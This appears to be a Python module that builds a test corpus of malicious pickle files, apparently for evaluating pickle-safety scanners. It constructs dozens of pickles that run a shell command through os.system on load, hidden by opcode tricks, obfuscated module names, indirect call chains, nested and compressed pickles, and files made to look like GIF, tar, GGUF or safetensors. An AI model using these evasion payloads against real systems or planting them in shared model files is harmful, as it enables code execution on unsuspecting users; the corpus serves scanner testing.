"""Pickles that hide what they call: by protocol, by instruction, in the memo, by names put together, by nesting."""

# ruff: noqa: E501   a row a line reads better than a row in five

from __future__ import annotations

import base64
import codecs
import marshal
import pickle
import struct
import zlib

from corpus.items import COMMAND, SOURCE, Item, asks, blob, call, code, glob, named, payload, stream, table, text, value

SYSTEM = named("posix", "system")
LINE = f"S'{COMMAND}'\n".encode()


def items() -> list[Item]:
    """All of them."""
    rows = [*_protocols(), *_instructions(), *_memo(), *_names(), *_chains(), *_nested(), *_layout()]
    return table("pickle", [(n, t, f"{i:02d}.pkl", d, how) for i, (n, t, d, how) in enumerate(rows)])


Row = tuple[str, str, bytes, str]


class _Fires:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (COMMAND,)


def _protocols() -> list[Row]:
    return [(f"protocol {p}", "reduce", pickle.dumps({"w": [1.5], "x": _Fires()}, p), "pickle") for p in range(6)]


def _instructions() -> list[Row]:
    extended = asks("copyreg", "add_extension", "posix", "system", 177) + b"0"
    patched = glob("argparse", "Namespace") + b"N}" + text("__setstate__") + SYSTEM + b"s\x86b0"
    patched += glob("argparse", "Namespace") + b")\x81" + text(COMMAND) + b"b"
    module = glob("collections", "abc") + b"}" + text("hook") + SYSTEM + b"sb0"
    swap = glob("sys", "modules") + text("momus_absent") + asks("importlib", "import_module", "os") + b"s0"
    swap += asks("momus_absent", "system", COMMAND)
    state = asks("types", "SimpleNamespace") + b"}" + text("__setstate__") + SYSTEM + b"sb" + text(COMMAND) + b"b"
    keywords = glob("subprocess", "Popen") + b")" + b"}" + text("args") + text(COMMAND) + text("shell") + b"\x88su\x92"
    keywords = keywords.replace(b"}" + text("args"), b"}(" + text("args"))
    popen = glob("functools", "partial") + b"(" + glob("subprocess", "check_call") + text(COMMAND) + b"t\x81"
    partial = popen + b"(" + glob("subprocess", "check_call") + b")" + value({"args": COMMAND, "shell": True}) + b"}tb"
    return [
        ("INST with text arguments", "INST", b"(" + LINE + b"iposix\nsystem\n.", "pickle"),
        ("OBJ over a mark", "OBJ", b"(cposix\nsystem\n" + LINE + b"o.", "pickle"),
        ("OBJ in protocol 5", "OBJ", stream(b"(" + glob("posix", "system") + text(COMMAND) + b"o", 5), "pickle"),
        ("extension code made by the file", "EXT1", stream(extended + b"\x82\xb1" + text(COMMAND) + b"\x85R"), "pickle"),
        ("extension code of four bytes", "EXT4",
         stream(asks("copyreg", "add_extension", "os", "system", 70_000) + b"0\x84" + struct.pack("<i", 70_000)
                + text(COMMAND) + b"\x85R"), "pickle"),
        ("class patched through slots", "BUILD", stream(patched), "pickle"),
        ("module patched by BUILD", "BUILD", stream(module + asks("collections", "abc.hook", COMMAND)), "pickle"),
        ("module table written by SETITEM", "SETITEM", stream(swap), "pickle"),
        ("state set twice", "BUILD", stream(state), "pickle"),
        ("NEWOBJ_EX with keywords", "NEWOBJ_EX", stream(keywords), ""),
        ("partial filled by its state", "BUILD", stream(partial + b")R"), "pickle"),
        ("call hidden by POP", "POP", stream(asks("posix", "system", COMMAND) + b"0" + value({"w": [1.0]})), "pickle"),
        ("call inside a discarded mark", "POP_MARK", stream(b"(" + asks("posix", "system", COMMAND) + b"1N"), "pickle"),
        ("call as a dictionary key", "SETITEMS", stream(b"}(" + asks("posix", "system", COMMAND) + b"Nu"), "pickle"),
        ("DUP of the command", "DUP", stream(text(COMMAND) + b"2" + SYSTEM + b"2" + text(COMMAND) + b"\x85R"), "pickle"),
        ("arguments from TUPLE3 and a list", "TUPLE",
         stream(glob("subprocess", "call") + value(["touch", "momus-marker"]) + b"\x85R"), "pickle"),
    ]  # fmt: skip


def _memo() -> list[Row]:
    over = text("math") + b"q\x000" + text("posix") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93"
    sparse = text("posix") + b"r\x40\x42\x0f\x000" + text("system") + b"q\x070j\x40\x42\x0f\x00h\x07\x93"
    textual = b"Vposix\np12\n0Vsystem\np013\n0g12\ng13\n\x93"
    mixed = text("posix") + b"\x940" + b"Vsystem\np1\n0h\x00g1\n\x93"
    function = SYSTEM + b"\x940N0h\x00"
    args = text(COMMAND) + b"\x85\x940" + glob("posix", "system") + b"h\x00"
    late = b"]\x940" + text(COMMAND) + b"0h\x00" + text(COMMAND) + b"a0"
    late += glob("builtins", "map") + b"(" + glob("posix", "system") + b"h\x00t\x81" + b"\x940"
    late += call(glob("builtins", "list"), b"h\x01")
    end = text(COMMAND) + b"\x85R"
    return [
        ("memo slot overwritten", "BINPUT", stream(over + end), "pickle"),
        ("memo slot a million away", "LONG_BINPUT", stream(sparse + end), "pickle"),
        ("memo in decimal text", "PUT", b"\x80\x04" + textual + end + b".", "pickle"),
        ("memo kinds mixed", "MEMOIZE", stream(mixed + end), "pickle"),
        ("function kept in the memo", "MEMOIZE", stream(function + end), "pickle"),
        ("arguments kept in the memo", "MEMOIZE", stream(args + b"R"), "pickle"),
        ("list filled behind its sharing", "MEMOIZE", stream(late), "pickle"),
    ]


def _names() -> list[Row]:
    end = text(COMMAND) + b"\x85R"
    rot = asks("codecs", "decode", "cbfvk", "rot13")
    join = call(glob("builtins", "str.join"), text(""), value(["po", "six"]))
    b64 = call(glob("builtins", "str"), asks("base64", "b64decode", base64.b64encode(b"posix")), text("ascii"))
    add = asks("operator", "add", "po", "six")
    form = asks("builtins", "str.format", "{}{}", "po", "six")
    rev = asks("operator", "getitem", "xisop", code(asks("builtins", "slice", None, None, -1)))
    escaped = b"\x80\x04V\\u0070osi\\u0078\nV\\u0073ystem\n\x93" + end + b"."
    quoted = b"S'\\x70osix'\nS\"sys\\164em\"\n\x93(" + LINE + b"tR."
    old = b"\x80\x02c__builtin__\neval\n(" + value(SOURCE) + b"tR."
    mapped = b"\x80\x02c__builtin__\nlist\n(citertools\nimap\n(cposix\nsystem\n" + value([COMMAND]) + b"tRtR."
    wide = b"\x80\x04c\xef\xbd\x90osix\nsystem\n" + end + b"."
    return [
        ("name by rot13", "computed name", stream(rot + text("system") + b"\x93" + end), "pickle"),
        ("name by str.join", "computed name", stream(join + text("system") + b"\x93" + end), "pickle"),
        ("name by base64", "computed name", stream(b64 + text("system") + b"\x93" + end), "pickle"),
        ("name by addition", "computed name", stream(add + text("system") + b"\x93" + end), "pickle"),
        ("name by str.format", "computed name", stream(form + text("system") + b"\x93" + end), "pickle"),
        ("name by a slice", "computed name", stream(rev + text("system") + b"\x93" + end), "pickle"),
        ("name with unicode escapes", "spelling", escaped, "pickle"),
        ("name in quoted octal", "spelling", quoted, "pickle"),
        ("Python 2's eval", "old names", old, "pickle"),
        ("Python 2's imap", "old names", mapped, "pickle"),
        ("full-width letters", "spelling", wide, ""),
        ("through shutil", "dotted name", stream(glob("shutil", "os.system") + end), "pickle"),
        ("through scikit-learn", "dotted name", stream(glob("sklearn.datasets._base", "os.system") + end), "pickle"),
        ("through NumPy", "dotted name", stream(glob("numpy.lib._npyio_impl", "os.system") + end), "pickle"),
        ("through a class's globals", "dotted name",
         stream(call(glob("builtins", "dict.get"), glob("logging", "Handler.__init__.__globals__"), text("os")) + b"0"
                + glob("logging", "os.system") + end), "pickle"),
        ("module attribute of an estimator", "dotted name",
         stream(glob("sklearn.ensemble._forest", "Parallel.__init__.__globals__") + b"0"
                + glob("joblib.parallel", "os.system") + end), "pickle"),
    ]  # fmt: skip


def _chains() -> list[Row]:
    os_ = asks("importlib", "import_module", "os")
    got = call(glob("operator", "attrgetter"), text("system"))
    table_ = call(glob("operator", "getitem"), glob("sys", "modules"), text("posix"))
    resolve = asks("pkgutil", "resolve_name", "os:system")
    locate = asks("pydoc", "locate", "os.system")
    lazy = call(glob("builtins", "map"), SYSTEM, value([COMMAND]))
    star = call(glob("itertools", "starmap"), SYSTEM, value([(COMMAND,)]))
    filtered = call(glob("builtins", "filter"), SYSTEM, value([COMMAND]))
    reduced = call(glob("functools", "reduce"), glob("builtins", "getattr"), b"(" + os_ + text("system") + b"l")
    library = call(glob("ctypes", "CDLL"), b"N")
    native = call(glob("builtins", "getattr"), library, text("system"))
    thread = call(glob("threading", "Thread"), b"N", SYSTEM, b"N", text(COMMAND) + b"\x85")
    shell = call(glob("code", "InteractiveInterpreter"))
    default = call(glob("collections", "defaultdict"), call(glob("functools", "partial"), SYSTEM, text(COMMAND)))
    iterated = call(glob("builtins", "iter"), call(glob("functools", "partial"), SYSTEM, text(COMMAND)), b"K\x00")
    built = call(glob("builtins", "type"), text("T"), b")", b"}" + text("__reduce__") + SYSTEM + b"s")
    typed = call(built) + b"0" + glob("posix", "system") + text(COMMAND) + b"\x85R"
    return [
        ("attrgetter of a module", "chain", stream(call(call(got, os_), text(COMMAND))), "pickle"),
        ("module table read", "chain",
         stream(call(call(glob("builtins", "getattr"), table_, text("system")), text(COMMAND))), "pickle"),
        ("pkgutil resolves a name", "chain", stream(call(resolve, text(COMMAND))), "pickle"),
        ("pydoc locates a name", "chain", stream(call(locate, text(COMMAND))), "pickle"),
        ("map run by list", "chain", stream(call(glob("builtins", "list"), lazy)), "pickle"),
        ("starmap run by deque", "chain", stream(call(glob("collections", "deque"), star)), "pickle"),
        ("filter run by set", "chain", stream(call(glob("builtins", "set"), filtered)), "pickle"),
        ("map run by bytes", "chain", stream(call(glob("builtins", "bytes"), lazy)), "pickle"),
        ("map run by NumPy", "chain", stream(call(glob("numpy", "fromiter"), lazy, text("i8"))), "pickle"),
        ("map run by EXTEND", "chain", stream(call(glob("collections", "Counter"), lazy)), "pickle"),
        ("getattr folded over a list", "chain", stream(call(reduced, text(COMMAND))), "pickle"),
        ("C library's system", "chain", stream(call(native, blob(COMMAND.encode()))), "pickle"),
        ("thread run by hand", "chain", stream(call(glob("threading", "Thread.run"), thread)), "pickle"),
        ("interactive interpreter", "chain",
         stream(call(glob("code", "InteractiveInterpreter.runsource"), shell, text(SOURCE))), "pickle"),
        ("default factory", "chain", stream(call(glob("operator", "getitem"), default, text("k"))), "pickle"),
        ("iterator over a call", "chain", stream(call(glob("builtins", "list"), iterated)), "pickle"),
        ("type made on the spot", "chain", stream(typed), "pickle"),
    ]  # fmt: skip


def _nested() -> list[Row]:
    inner = payload()
    machine = compile(SOURCE, "m", "exec")
    packed = asks("zlib", "decompress", zlib.compress(inner))
    rotated = codecs.encode(base64.b64encode(inner).decode(), "rot13")
    plain = asks("base64", "b64decode", code(asks("codecs", "decode", rotated, "rot13")))
    buffer = call(glob("io", "BytesIO"), blob(inner))
    reader = call(glob("pickle", "Unpickler"), buffer)
    twice = stream(asks("pickle", "loads", stream(asks("_pickle", "loads", inner))))
    array = asks("numpy", "array", [1]) + b"0"
    return [
        ("pickle in zlib in a pickle", "nested", stream(call(glob("pickle", "loads"), packed)), "pickle"),
        ("pickle in rot13 base64", "nested", stream(call(glob("_pickle", "loads"), plain)), "pickle"),
        ("Unpickler over a buffer", "nested", stream(call(glob("pickle", "Unpickler.load"), reader)), "pickle"),
        ("pickle in a pickle in a pickle", "nested", twice, "pickle"),
        ("marshalled code run by exec", "nested",
         stream(call(glob("builtins", "exec"), asks("marshal", "loads", marshal.dumps(machine)), b"}")), "pickle"),
        ("pure Python unpickler", "nested", stream(array + asks("pickle", "_loads", inner)), "pickle"),
        ("multiprocessing's loads", "nested", stream(asks("multiprocessing.reduction", "ForkingPickler.loads", inner)),
         "pickle"),
        ("shelf entry", "nested", stream(call(glob("pickle", "_Unpickler.load"), call(glob("pickle", "_Unpickler"),
                                                                                  buffer))), "pickle"),
    ]  # fmt: skip


def _layout() -> list[Row]:
    evil = asks("posix", "system", COMMAND)
    tar = bytearray(512)
    tar[:100] = (b"N0(" + LINE + b"iposix\nsystem\n.").ljust(100, b"\0")
    tar[257:265] = b"ustar\x0000"
    tar[124:136] = b"00000000000\0"
    tar[148:156] = b"        "
    tar[148:156] = b"%06o\0 " % sum(tar)
    return [
        ("frame longer than the file", "frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 20) + evil + b".", ""),
        ("frame too short", "frame", b"\x80\x04\x95" + struct.pack("<Q", 3) + b"N0N0" + evil + b".", "pickle"),
        ("protocol named twice", "layout", b"\x80\x02N0\x80\x04" + evil + b".", "pickle"),
        ("no STOP at the end", "layout", b"\x80\x04" + evil, "pickle"),
        ("second pickle of two", "second stream", stream(value({"w": 1.0})) + stream(evil), "twice"),
        ("third pickle behind zeros", "second stream", stream(b"N") + bytes(64) + stream(evil), ""),
        ("behind 4 MiB of numbers", "layout", stream(value([0.5] * 400_000) + b"0" + evil), "pickle"),
        ("begins like a GIF", "polyglot", b"GIF89a\x01\x00\x01" + b"0" + evil + b".", "pickle"),
        ("begins like a program", "polyglot", b"MZ\x900" + evil + b".", "pickle"),
        ("begins like GGUF", "polyglot", b"GGUF\x03\0\0\0\0" + b"0" + evil + b".", "pickle"),
        ("is a tar by its first block", "polyglot", bytes(tar) + bytes(1024), "pickle"),
        ("is safetensors by its first bytes", "polyglot",
         b"\x8c\x08" + bytes(6) + b'{"0(' + LINE + b'iposix\nsystem\n.":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}}'
         .ljust(1600), "pickle"),
        ("text that looks like zlib", "polyglot", b"(S'x'\n0cposix\nsystem\n(" + LINE + b"tR.", "pickle"),
        ("all text, no binary byte", "protocol 0", b"cposix\nsystem\np0\n(" + LINE + b"p1\ntp2\nRp3\n.", "pickle"),
        ("out-of-band buffer first", "buffers", stream(b"\x96" + struct.pack("<Q", 4) + b"abcd\x980" + evil, 5), "pickle"),
    ]  # fmt: skip
